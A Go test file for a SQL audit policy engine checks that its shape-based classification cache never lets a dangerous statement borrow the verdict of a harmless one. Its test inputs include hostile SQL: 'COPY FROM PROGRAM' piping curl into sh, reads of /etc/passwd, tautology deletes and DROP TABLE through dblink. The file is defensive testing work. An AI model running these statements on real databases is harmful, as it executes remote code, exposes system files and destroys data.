package policy_test

import (
	"context"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	pg_query "github.com/pganalyze/pg_query_go/v6"

	"github.com/vigil-audit/vigil/internal/classify"
	sqlclass "github.com/vigil-audit/vigil/internal/classify/sql"
	"github.com/vigil-audit/vigil/internal/policy"
	"github.com/vigil-audit/vigil/internal/policy/builtin"
)

func builtinEngine(t testing.TB) *policy.Engine {
	t.Helper()
	rs, err := builtin.Load()
	if err != nil {
		t.Fatal(err)
	}
	e := policy.NewEngine(rs, policy.Defaults{})
	policy.RegisterClassifiers(e)
	return e
}

func sqlAction(text string) *classify.Action {
	return &classify.Action{Kind: classify.KindSQL, Environment: "production", Connection: "db",
		Actor: classify.Actor{User: "alice", Roles: []string{"developer"}}, SQL: text}
}

// fresh decides on a by classifying its text anew, without any cache.
func fresh(t testing.TB, e *policy.Engine, a *classify.Action) *policy.Decision {
	t.Helper()
	r, err := sqlclass.Classify(a.SQL)
	if err != nil {
		t.Fatal(err)
	}
	return e.DecideAttrs(a, r.Attrs())
}

func decide(t testing.TB, e *policy.Engine, a *classify.Action) *policy.Decision {
	t.Helper()
	d, err := e.Decide(context.Background(), a)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

// TestShapeCacheHits: pgbench's statements with new literals are classified
// once per shape.
func TestShapeCacheHits(t *testing.T) {
	e := builtinEngine(t)
	for i := range 50 {
		for _, f := range []string{
			"SELECT abalance FROM pgbench_accounts WHERE aid = %d;",
			"UPDATE pgbench_accounts SET abalance = abalance + %d WHERE aid = 7;",
			"INSERT INTO pgbench_history (tid, bid, aid, delta, mtime) VALUES (1, 2, %d, -4124, CURRENT_TIMESTAMP);",
		} {
			a := sqlAction(fmt.Sprintf(f, 1000+i))
			if got, want := decide(t, e, a), fresh(t, e, a); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s:\n got %+v\nwant %+v", a.SQL, got, want)
			}
		}
	}
	st := e.CacheStats()
	if st.Misses != 3 || st.Shared != 3 || st.ShapeHits != 147 || st.ExactHits != 0 {
		t.Fatalf("stats %+v; want 3 misses, all shared, 147 shape hits", st)
	}
	// A repeated text is an exact hit.
	decide(t, e, sqlAction("SELECT abalance FROM pgbench_accounts WHERE aid = 1000;"))
	if st := e.CacheStats(); st.ExactHits != 1 {
		t.Fatalf("stats %+v; want an exact hit", st)
	}
	// Registering a classifier clears both levels.
	policy.RegisterClassifiers(e)
	decide(t, e, sqlAction("SELECT abalance FROM pgbench_accounts WHERE aid = 5;"))
	if st := e.CacheStats(); st.Misses != 4 {
		t.Fatalf("stats %+v; want a miss after Register", st)
	}
}

// TestShapeCacheNoBypass: texts that differ only in literals but are not
// alike are never served each other's classification: each is decided as
// if classified fresh, and there is no shape hit.
func TestShapeCacheNoBypass(t *testing.T) {
	pairs := [][2]string{
		{"SET session_replication_role = 'origin'", "SET session_replication_role = 'replica'"},
		{"SELECT set_config('application_name', 'x', false)", "SELECT set_config('session_replication_role', 'replica', false)"},
		{"DO $$ BEGIN PERFORM 1; END $$", "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$"},
		{"COPY t FROM PROGRAM 'true'", "COPY t FROM PROGRAM 'curl x | sh'"},
		{"COPY t FROM STDIN", "COPY t FROM '/etc/passwd'"},
		{"SELECT pg_read_file('x')", "SELECT pg_read_file('/etc/passwd')"},
		{"CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'SELECT 1'", "CREATE FUNCTION f() RETURNS void LANGUAGE sql AS 'DELETE FROM users'"},
		{"CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE 'sql'", "CREATE FUNCTION f() RETURNS int AS 'select 1' LANGUAGE 'plpythonu'"},
		{"ALTER ROLE x PASSWORD 'a'", "ALTER ROLE x PASSWORD 'b'"},
		{"SELECT dblink_exec('host=x', 'SELECT 1')", "SELECT dblink_exec('host=x', 'DROP TABLE users')"},
		{"SELECT x::float(5)", "SELECT x::float(0)"},
	}
	e := builtinEngine(t)
	for _, p := range pairs {
		for _, text := range p {
			a := sqlAction(text)
			if got, want := decide(t, e, a), fresh(t, e, a); !reflect.DeepEqual(got, want) {
				t.Fatalf("%s:\n got %+v\nwant %+v", text, got, want)
			}
		}
	}
	if st := e.CacheStats(); st.ShapeHits != 0 || st.Shared != 0 {
		t.Fatalf("stats %+v; no text here may be cached by shape", st)
	}
	// And the decisions do differ where the literal matters.
	for _, i := range []int{0, 1, 2, 4, 6, 9} {
		a, b := decide(t, e, sqlAction(pairs[i][0])), decide(t, e, sqlAction(pairs[i][1]))
		if reflect.DeepEqual(a.Rules, b.Rules) {
			t.Errorf("%q and %q: same rules %v", pairs[i][0], pairs[i][1], a.Rules)
		}
	}
}

// TestShapeCacheDifferential decides literal variants of many statements
// through the cache and fresh, and requires the same Decision.
func TestShapeCacheDifferential(t *testing.T) {
	texts := []string{
		"SELECT abalance FROM pgbench_accounts WHERE aid = 48213;",
		"DELETE FROM users WHERE id = 5 OR 1 = 1",
		"DELETE FROM users WHERE 'a' = 'a'",
		"UPDATE users SET admin = true WHERE 2 > 1",
		"UPDATE users SET name = 'x' WHERE id = 3",
		"SELECT * FROM t WHERE a IN (1, 2, 3) AND b = 'x' LIMIT 5",
		"WITH d AS (DELETE FROM users WHERE id = 1 RETURNING *) SELECT count(*) FROM d",
	}
	files, _ := filepath.Glob("/usr/share/postgresql/*/extension/*.sql")
	for _, f := range files {
		data, err := os.ReadFile(f)
		if err != nil {
			t.Fatal(err)
		}
		stmts, err := pg_query.SplitWithScanner(string(data), true)
		if err == nil {
			texts = append(texts, stmts...)
		}
	}
	e := builtinEngine(t)
	for _, text := range texts {
		for _, v := range append([]string{text}, sqlclass.LiteralVariants(text)...) {
			a := sqlAction(v)
			if got, want := decide(t, e, a), fresh(t, e, a); !reflect.DeepEqual(got, want) {
				t.Fatalf("%.300s:\n got %+v\nwant %+v", v, got, want)
			}
		}
	}
	st := e.CacheStats()
	t.Logf("%d texts: %+v", len(texts), st)
	if st.ShapeHits == 0 {
		t.Fatal("no shape hit")
	}
}
